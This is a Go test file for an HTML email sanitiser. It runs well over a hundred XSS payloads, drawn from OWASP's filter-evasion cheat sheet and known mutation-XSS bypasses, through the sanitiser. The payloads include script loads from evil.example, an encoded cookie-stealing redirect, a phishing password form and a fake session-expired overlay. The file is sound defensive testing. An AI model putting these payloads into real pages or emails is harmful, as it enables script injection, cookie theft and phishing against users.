package htmlmail

import (
	"strings"
	"testing"
)

// xssVector is an attack payload, and optionally text that must survive it
// (to show the sanitiser removes the attack, not the message).
type xssVector struct {
	name    string
	payload string
	keep    string
}

// xssVectors is drawn from the OWASP XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html)
// and from published mutation-XSS / namespace-confusion bypasses of HTML
// sanitisers, plus email-specific tricks.
var xssVectors = []xssVector{
	// Plain script.
	{"script tag", `<script>alert(1)</script>ok`, "ok"},
	{"script src", `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, ""},
	{"script slash attr", `<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>`, ""},
	{"script extra brackets", `<<SCRIPT>alert("XSS");//\<</SCRIPT>`, ""},
	{"script unclosed", `<SCRIPT SRC=http://evil.example/xss.js?< B >`, ""},
	{"script split", `<scr<script>ipt>alert(1)</script>`, ""},
	{"script quote encapsulation", `<SCRIPT a=">" SRC="httx://evil.example/xss.js"></SCRIPT>`, ""},
	{"script document.write", `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://evil.example/xss.js"></SCRIPT>`, ""},
	{"end title", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`, ""},
	{"polyglot", "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>", ""},

	// Event handlers.
	{"img onerror", `<img src=x onerror=alert(1)>`, ""},
	{"img onerror entity", `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">`, ""},
	{"img onmouseover", `<IMG SRC=# onmouseover="alert('xxs')">`, ""},
	{"img empty src", `<IMG SRC= onmouseover="alert('xxs')">`, ""},
	{"img no src", `<IMG onmouseover="alert('xxs')">`, ""},
	{"img malformed", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`, ""},
	{"img onload base64", `<img onload="eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9ldmlsLyIrZG9jdW1lbnQuY29va2ll'))">`, ""},
	{"a onmouseover", `<a onmouseover="alert(document.cookie)">xxs link</a>`, "xxs link"},
	{"a onmouseover unquoted", `<a onmouseover=alert(document.cookie)>xxs link</a>`, "xxs link"},
	{"body onload", `<BODY ONLOAD=alert('XSS')>hello`, "hello"},
	{"body onload junk", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>hi", "hi"},
	{"svg onload", `<svg/onload=alert('XSS')>`, ""},
	{"svg onload spaced", `<svg onload=alert(1)><g/></svg>`, ""},
	{"details ontoggle", `<details open ontoggle=alert(1)><summary>s</summary>d</details>`, "d"},
	{"marquee onstart", `<marquee onstart=alert(1)>m</marquee>`, "m"},
	{"video source onerror", `<video><source onerror="alert(1)"></video>`, ""},
	{"audio onerror", `<audio src=x onerror=alert(1)>`, ""},
	{"div onclick", `<div onclick="alert(1)" ONCLICK=alert(2) oNcLiCk=alert(3)>c</div>`, "c"},
	{"table onmouseover", `<table onmouseover=alert(1)><tr><td onclick=alert(1)>t</td></tr></table>`, "t"},

	// javascript: and friends in URLs.
	{"img javascript", `<IMG SRC="javascript:alert('XSS');">`, ""},
	{"img javascript no quotes", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`, ""},
	{"img decimal entities", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`, ""},
	{"img padded decimal", `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`, ""},
	{"img hex entities", `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`, ""},
	{"img embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">", ""},
	{"img encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`, ""},
	{"img encoded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, ""},
	{"img encoded CR", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`, ""},
	{"img leading control", `<IMG SRC=" &#14;  javascript:alert('XSS');">`, ""},
	{"img vbscript", `<IMG SRC='vbscript:msgbox("XSS")'>`, ""},
	{"img livescript", `<IMG SRC="livescript:[code]">`, ""},
	{"img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`, ""},
	{"img lowsrc", `<IMG LOWSRC="javascript:alert('XSS')">`, ""},
	{"img srcset", `<img srcset="javascript:alert(1) 1x, https://evil.example/a.png 2x">`, ""},
	{"a javascript", `<a href="javascript:alert(1)">x</a>`, "x"},
	{"a javascript char ref", `<a href="javas&#99;ript:alert(1)">x</a>`, "x"},
	{"a javascript hex ref", `<a href="&#x6A;avascript:alert(1)">x</a>`, "x"},
	{"a javascript colon entity", `<a href="javascript&colon;alert(1)">x</a>`, "x"},
	{"a javascript mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`, "x"},
	{"a javascript leading space", `<a href="  javascript:alert(1)">x</a>`, "x"},
	{"a javascript leading control", "<a href=\"\x01javascript:alert(1)\">x</a>", "x"},
	{"a javascript tab", `<a href="jav&#x09;ascript:alert(1)">x</a>`, "x"},
	{"a javascript location", `<A HREF="javascript:document.location='http://www.example.com/'">XSS</A>`, "XSS"},
	{"a data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "x"},
	{"a vbscript", `<a href="vbscript:msgbox(1)">x</a>`, "x"},
	{"area javascript", `<map name="m"><area shape="rect" coords="0,0,1,1" href="javascript:alert(1)"></map>`, ""},
	{"input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, ""},
	{"body background", `<BODY BACKGROUND="javascript:alert('XSS')">b`, "b"},
	{"table background", `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>t</td></tr></TABLE>`, "t"},
	{"td background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">t</TD></TABLE>`, "t"},
	{"bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`, ""},
	{"br size", `<BR SIZE="&{alert('XSS')}">`, ""},
	{"data svg image", `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`, ""},
	{"data text image", `<img src="data:text/html,<script>alert(1)</script>">`, ""},
	{"blockquote cite", `<blockquote cite="javascript:alert(1)">q</blockquote>`, "q"},
	{"q cite", `<q cite="javascript:alert(1)">q</q>`, "q"},
	{"title attr", `<p title="javascript:alert(1)">p</p>`, "p"},

	// Embedded documents, forms and metadata.
	{"iframe", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, ""},
	{"iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, ""},
	{"iframe event", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`, ""},
	{"iframe unclosed", `<iframe src=http://evil.example/scriptlet.html <`, ""},
	{"frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, ""},
	{"object", `<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>`, ""},
	{"object param", `<object data="x.swf"><param name="AllowScriptAccess" value="always"></object>`, ""},
	{"embed flash", `<EMBED SRC="http://evil.example/xss.swf" AllowScriptAccess="always"></EMBED>`, ""},
	{"embed svg", `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`, ""},
	{"applet", `<applet code="x.class">a</applet>`, ""},
	{"base", `<BASE HREF="javascript:alert('XSS');//"><a href="x">l</a>`, "l"},
	{"meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, ""},
	{"meta refresh data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`, ""},
	{"meta refresh double url", `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`, ""},
	{"meta set-cookie", `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`, ""},
	{"link stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, ""},
	{"link remote stylesheet", `<LINK REL="stylesheet" HREF="http://evil.example/xss.css">`, ""},
	{"form", `<form action="https://evil.example/steal" method="post">Password: <input type="password" name="p"><button formaction="javascript:alert(1)">Log in</button></form>`, "Password:"},
	{"isindex", `<isindex action=javascript:alert(1) type=image>`, ""},
	{"textarea select", `<textarea>t</textarea><select><option>o</option></select>`, ""},
	{"template", `<template><img src=x onerror=alert(1)></template>`, ""},
	{"xml data island", `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`, ""},
	{"html+time", `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`, ""},
	{"downlevel-hidden comment", "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->c", "c"},
	{"ssi", `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://evil.example/xss.js></SCRIPT>'"-->`, ""},
	{"php", "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>", ""},

	// CSS.
	{"style import", `<STYLE>@import'http://evil.example/xss.css';</STYLE>s`, "s"},
	{"style escaped import", `<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`, ""},
	{"style moz-binding", `<STYLE>BODY{-moz-binding:url("http://evil.example/xssmoz.xml#xss")}</STYLE>`, ""},
	{"style text/javascript", `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`, ""},
	{"style background class", `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`, ""},
	{"style list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, "XSS"},
	{"style attr expression comment", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`, ""},
	{"style attr expression", `<DIV STYLE="width: expression(alert('XSS'));">w</DIV>`, "w"},
	{"style attr url javascript", `<div style="background:url(javascript:alert(1))">d</div>`, "d"},
	{"style attr background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">d</DIV>`, "d"},
	{"style attr unicode escapes", `<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">d</DIV>`, "d"},
	{"style attr non-hex escape", `<div style="background: u\rl(javascript:alert(1))">d</div>`, "d"},
	{"style attr behavior", `<XSS STYLE="behavior: url(xss.htc);">x</XSS>`, "x"},
	{"style attr anonymous element", `<XSS STYLE="xss:expression(alert('XSS'))">x</XSS>`, "x"},
	{"style attr moz-binding", `<div style="-moz-binding: url(http://evil.example/x.xml#x)">d</div>`, "d"},
	{"style attr position fixed", `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Your session expired, log in again</div>`, "session expired"},
	{"style attr position absolute", `<div style="position: absolute; top: 0">d</div>`, "d"},
	{"style attr breakout", `<div style="color: red; } body { background: url(http://evil.example/)">d</div>`, "d"},
	{"style attr quote breakout", `<div style='color:red" onmouseover="alert(1)'>d</div>`, "d"},
	{"style attr image-set", `<div style="background-image: image-set('http://evil.example/a.png' 1x)">d</div>`, "d"},

	// Namespace confusion and mutation XSS.
	{"noscript title", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, ""},
	{"svg style", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, ""},
	{"svg style img", `<svg><style><img src=x onerror=alert(1)></style></svg>`, ""},
	{"math mglyph style", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`, ""},
	{"form math mglyph", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, ""},
	{"math xlink", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, ""},
	{"math href", `<math href="javascript:alert(1)">CLICK</math>`, ""},
	{"math maction", `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">CLICKME</maction></math>`, ""},
	{"svg xlink", `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`, ""},
	{"svg animate", `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, ""},
	{"svg set href", `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>`, ""},
	{"svg foreignObject", `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`, ""},
	{"xmp title", `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, ""},
	{"textarea title", `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, ""},
	{"title title", `<title><a title="</title><img src=x onerror=alert(1)>">`, ""},
	{"noembed", `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`, ""},
	{"noframes", `<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>`, ""},
	{"plaintext", `<plaintext><img src=x onerror=alert(1)>`, ""},
	{"comment attr", `<!--<img src="--><img src=x onerror=alert(1)//">`, ""},
	{"cdata", `<![CDATA[><img src=x onerror=alert(1)>]]>`, ""},
	{"nested a", `<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>`, "x"},
	{"table foster", `<table><img src=x onerror=alert(1)><tr><td>t</td></tr></table>`, "t"},
	{"select foster", `<select><img src=x onerror=alert(1)></select>`, ""},

	// Unclosed and broken markup.
	{"unclosed img", `<img src=x onerror=alert(1)//`, ""},
	{"unclosed attribute", `<a href="https://ok.example/ onclick=alert(1)>x`, ""},
	{"half open", "<IMG SRC=\"`<javascript:alert>`('XSS')\"", ""},
	{"unclosed script", `<script>alert(1)`, ""},
	{"unclosed style", `<style>*{color:red}`, ""},
	{"unclosed comment", `<!-- <script>alert(1)</script>`, ""},
	{"doctype", `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`, ""},

	// NUL bytes.
	{"nul in tag", "<scr\x00ipt>alert(1)</scr\x00ipt>", ""},
	{"nul in javascript", "<IMG SRC=java\x00script:alert(\"XSS\")>", ""},
	{"nul in attr name", "<img src=x o\x00nerror=alert(1)>", ""},
	{"nul in href", "<a href=\"java\x00script:alert(1)\">x</a>", "x"},
	{"nul before tag", "\x00<script>alert(1)</script>", ""},

	// Email-specific.
	{"utf-7 meta", `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`, "+ADw-SCRIPT+AD4-"},
	{"us-ascii 7bit", "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe", ""},
	{"target opener", `<a href="https://ok.example/" target="_self" rel="opener">x</a>`, "x"},
	{"a ping", `<a href="https://ok.example/" ping="https://tracker.example/">x</a>`, "x"},
	{"relative link", `<a href="/logout">x</a>`, "x"},
	{"protocol relative link", `<a href="//evil.example/">x</a>`, "x"},
	{"fake blocked marker", `<img data-blocked="remote" src="https://tracker.example/p.gif" onerror="alert(1)">`, ""},
}

func TestXSSVectors(t *testing.T) {
	s := NewSanitizer()
	for _, v := range xssVectors {
		for _, allow := range []bool{false, true} {
			opts := Options{AllowRemoteImages: allow, CIDURL: testCIDURL}
			res, err := s.Sanitize(strings.NewReader(v.payload), "", opts)
			if err != nil {
				t.Errorf("%s (remote=%v): %v", v.name, allow, err)
				continue
			}
			for _, p := range problems(res.HTML, allow) {
				t.Errorf("%s (remote=%v): %s\n  in:  %q\n  out: %q", v.name, allow, p, v.payload, res.HTML)
			}
			if v.keep != "" && !strings.Contains(textContent(res.HTML), v.keep) {
				t.Errorf("%s (remote=%v): text %q lost: %q", v.name, allow, v.keep, res.HTML)
			}
		}
	}
}

// TestXSSVectorsInsideNewsletter checks the payloads in the middle of a
// realistic document, where parser context (tables, formatting elements)
// differs from a bare fragment.
func TestXSSVectorsInsideNewsletter(t *testing.T) {
	s := NewSanitizer()
	for _, v := range xssVectors {
		doc := `<html><head><title>News</title></head><body><table><tr><td><font>` + v.payload + `</font></td></tr></table><p>end</p></body></html>`
		res, err := s.Sanitize(strings.NewReader(doc), "utf-8", Options{})
		if err != nil {
			t.Errorf("%s: %v", v.name, err)
			continue
		}
		for _, p := range problems(res.HTML, false) {
			t.Errorf("%s: %s\n  out: %q", v.name, p, res.HTML)
		}
	}
}

func testCIDURL(cid string) string { return "/cid/" + cid }
